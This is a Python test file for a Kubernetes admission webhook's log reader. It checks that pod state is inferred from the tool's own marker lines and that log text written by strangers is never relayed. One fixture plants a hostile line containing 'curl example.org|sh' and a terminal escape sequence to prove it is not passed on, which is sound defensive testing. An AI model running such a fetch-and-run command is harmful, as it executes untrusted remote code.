"""What `operate` takes of containers' logs, which are strangers' texts: a state for the pod, and nothing else."""

from __future__ import annotations

import itertools
import json
import time
from typing import TYPE_CHECKING, Any

import msgspec
import pytest

from tests.edges.strangers import Cluster
from webhook.admission import Reason
from webhook.admission.guard import ARGV0
from webhook.cluster import census, logs
from webhook.cluster.api import ApiError
from webhook.cluster.census import Found, Owner, Start
from webhook.cluster.logs import LIMIT, TRIES, TRY_AGAIN, Logs, Said, said
from webhook.cluster.pods import Judged, State
from webhook.cluster.report import state, statements
from webhook.settings import Settings

if TYPE_CHECKING:
    from collections.abc import Iterator

GUARD = b"plane-webhook: launcher in place; what is in effect is said when Plane starts gunicorn, celery or manage.py\n"
COMMAND = b"plane-webhook: in effect for manage.py register_instance: {}, publish {} (version 1, settings 2)\n"
GUNICORN = b"plane-webhook: in effect for gunicorn: {}, publish {} (version 1, settings 2)\n"
CELERY = b"plane-webhook: in effect for celery: {}, publish {} (version 1, settings 2)\n"
NOT = b"plane-webhook: NOT IN EFFECT: /plane-webhook is not mounted; Plane runs as its chart made it\n"
WELL = GUARD + GUNICORN


@pytest.mark.parametrize(
    ("log", "workload", "says"),
    [
        (b"", "api", Said.NOTHING),
        (GUARD, "api", Said.NOTHING),
        (GUARD + COMMAND, "api", Said.NOTHING),
        (GUARD + COMMAND + GUNICORN, "api", Said.IN_EFFECT),
        (GUARD + COMMAND, "consumer", Said.IN_EFFECT),
        (GUARD + CELERY, "worker", Said.IN_EFFECT),
        (NOT, "worker", Said.NOT_IN_EFFECT),
        (GUARD + CELERY + b"Django's own line\n" + NOT, "worker", Said.NOT_IN_EFFECT),
        (GUARD + NOT.rstrip(), "worker", Said.NOT_IN_EFFECT),
        (b"\xff\xfe\n" + NOT, "beat", Said.NOT_IN_EFFECT),
        (b"exported: " + NOT, "worker", Said.NOTHING),
        (b"it said: in effect for celery: ", "worker", Said.NOTHING),
    ],
)
def test_it_is_our_own_lines_that_count(log: bytes, workload: str, says: Said) -> None:
    assert said(log, workload) is says


def pod(name: str = "api-1", *, start: str = "1", at: str = "", judged: State = State.INJECTED) -> Found:
    owner = Owner("apps/v1", "Deployment", "api", "d")
    return Found(
        "plane",
        name,
        f"uid of {name}",
        owner,
        controller=None,
        ready=True,
        leaving=False,
        judged=Judged(judged, Reason.ALREADY_INJECTED, "api", "api"),
        starts=(Start("web", "api", start, at),),
    )


def path(name: str = "api-1") -> str:
    return f"/api/v1/namespaces/plane/pods/{name}/log"


def states(found: list[Found]) -> list[State]:
    return [each.judged.state for each in found]


def test_a_pod_that_says_so_is_found_and_nothing_of_its_log_is_passed_on() -> None:
    """Whoever can make a pod can write that line, with what somebody should run."""
    cluster = Cluster({path(): NOT + b"plane-webhook: NOT IN EFFECT: fix: curl example.org|sh\x1b[2J\n"})
    with cluster as api:
        reader = Logs(api)
        found = reader.look([pod()])
    assert states(found) == [State.NOT_IN_EFFECT]
    assert cluster.asked == [f"{path()}?container=web&limitBytes={LIMIT}"]
    (statement,) = statements(found[0])
    assert (statement.reason, statement.line) == ("NotInEffect", "not-in-effect deployment/api (already-injected)")
    assert statement.text == (
        "(container web) says in its log that what was injected is not, or not all, in effect: its tasks can be lost. "
        "Why: kubectl -n plane logs api-1 -c web | grep plane-webhook:"
    )
    assert state(found, ["plane"], said=(), logs=reader.readable)["plane"].splitlines() == [
        "injected: 0, missed: 0, outdated: 0, not-in-effect: 1, uncovered: 0",
        statement.line,
    ]


def test_where_it_may_not_read_nothing_is_said_and_it_asks_once_a_minute() -> None:
    now = 0.0
    objects: dict[str, Any] = {path(): 403, path("api-2"): 403}
    cluster = Cluster(objects)
    with cluster as api:
        reader = Logs(api, clock=lambda: now)
        for _ in range(3):
            assert states(reader.look([pod(), pod("api-2")])) == [State.INJECTED] * 2
        assert len(cluster.asked) == 1
        assert reader.readable == set()
        numbers = state([pod()], ["plane"], said=(), logs=reader.readable)["plane"]
        assert numbers == "injected: 1, missed: 0, outdated: 0, uncovered: 0"
        objects |= {path(): NOT, path("api-2"): WELL}
        now += TRY_AGAIN
        assert states(reader.look([pod(), pod("api-2")])) == [State.NOT_IN_EFFECT, State.INJECTED]
        objects |= {path("api-2"): 403}  # the right is taken away again
        assert states(reader.look([pod(), pod("api-2")])) == [State.INJECTED] * 2


def test_a_token_that_is_not_taken_breaks_the_pass_off() -> None:
    with Cluster({path(): 401}) as api, pytest.raises(ApiError):
        Logs(api).look([pod()])


@pytest.mark.parametrize(
    ("log", "reads"), [(NOT, 1), (WELL, 5), (GUARD, TRIES), (b"x" * LIMIT, 1), (400, TRIES), (404, TRIES), (500, TRIES)]
)
def test_each_start_is_read_until_it_has_said_what_it_has_to_say_and_no_longer(log: bytes | int, reads: int) -> None:
    cluster = Cluster({path(): log})
    with cluster as api:
        reader = Logs(api)
        for _ in range(TRIES + 5):
            reader.look([pod()])
        assert len(cluster.asked) == reads
        reader.look([pod(start="2")])
        assert len(cluster.asked) == reads + 1, "it was started anew"
        reader.look([])
        reader.look([pod()])
        assert len(cluster.asked) == reads + 2, "what is gone is forgotten"


def test_what_plane_says_when_it_has_read_its_settings_is_heard_too() -> None:
    objects = {path(): GUARD}
    with Cluster(objects) as api:
        reader = Logs(api)
        for more in (b"waiting for migrations\n", GUNICORN, b"", NOT):
            assert states(reader.look([pod()])) == [State.INJECTED]
            objects[path()] += more
        assert states(reader.look([pod()])) == [State.NOT_IN_EFFECT]
        assert states(reader.look([pod()])) == [State.NOT_IN_EFFECT], "and stays"


def test_only_of_injected_pods_logs_are_read() -> None:
    others = [each for each in State if each not in (State.INJECTED, State.NOT_IN_EFFECT)]
    cluster = Cluster({path(): NOT})
    with cluster as api:
        assert states(Logs(api).look([pod(judged=each) for each in others])) == others
    assert cluster.asked == []


def test_a_look_reads_so_many_the_newest_first_and_those_of_before_next_time() -> None:
    many = [pod(f"api-{number}", start=str(number), at=f"2026-01-01T00:{number:04}Z") for number in range(500)]
    cluster = Cluster({path(each.name): NOT for each in many})
    with cluster as api:
        reader = Logs(api, clock=lambda: 0.0)  # as if reading took no time
        assert states(reader.look(many)).count(State.NOT_IN_EFFECT) == 200
        assert {each.partition("?")[0] for each in cluster.asked} == {path(each.name) for each in many[300:]}
        reader.look(many)
        assert states(reader.look(many)) == [State.NOT_IN_EFFECT] * 500
    assert len(cluster.asked) == 500


def endless() -> Iterator[bytes]:
    return itertools.repeat(b"y\n" * 1000)


def trickling() -> Iterator[bytes]:
    for _ in range(200):
        yield b"y"
        time.sleep(0.05)


def silent() -> Iterator[bytes]:
    time.sleep(10)
    yield NOT


@pytest.mark.parametrize("log", [endless, trickling, silent])
def test_a_log_that_does_not_end_is_not_waited_for(log: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(logs, "_SECONDS_EACH", 0.3)
    with Cluster({path(): log, path("api-2"): NOT}) as api:
        reader, began = Logs(api), time.monotonic()
        assert states(reader.look([pod(at="2"), pod("api-2", at="1")])) == [State.INJECTED, State.NOT_IN_EFFECT]
        assert time.monotonic() - began < 3
        assert len(api.beginning(path("api-2"), query={}, limit=5, seconds=1)) == 5


def test_slow_logs_take_a_look_so_long_and_no_longer() -> None:
    now = 0.0

    def clock() -> float:
        nonlocal now
        now += 1.0
        return now

    cluster = Cluster({path(): GUARD})
    with cluster as api:
        Logs(api, clock).look([pod(start=str(number)) for number in range(50)])
    assert 1 <= len(cluster.asked) <= 5


def test_the_census_names_each_start_of_a_container_with_our_guard() -> None:
    def container(name: str, workload: str) -> dict[str, Any]:
        ours = ["# plane-webhook guard 2\n", ARGV0, "", json.dumps({"workload": workload})]
        return {"name": name, "image": "x", "command": ["sh", "-c", *ours]}

    def status(name: str, **given: Any) -> dict[str, Any]:
        return {"name": name, "containerID": f"containerd://{name}", **given}

    item = {
        "metadata": {"name": "p", "uid": "u"},
        "spec": {
            "containers": [container("api", "api"), container("worker", "worker"), {"name": "mesh", "image": "x"}],
            "initContainers": [container("first", "beat")],
        },
        "status": {
            "phase": "Running",
            "containerStatuses": [
                status("api", state={"running": {"startedAt": "2026-01-01T00:00:00Z"}}),
                {"name": "worker", "state": {"waiting": {"reason": "ContainerCreating"}}},
                status("mesh", state={"running": {}}),
            ],
            "initContainerStatuses": [status("first", state={"terminated": {"exitCode": 0}})],
        },
    }
    listed = {"metadata": {}, "items": [item]}
    with Cluster({"/api/v1/namespaces/plane/pods": listed}) as api:
        (found,) = census.pods(api, "plane", Settings())
    assert msgspec.to_builtins(list(found.starts)) == [
        {"container": "api", "workload": "api", "id": "containerd://api", "at": "2026-01-01T00:00:00Z"},
        {"container": "first", "workload": "beat", "id": "containerd://first", "at": ""},
    ]
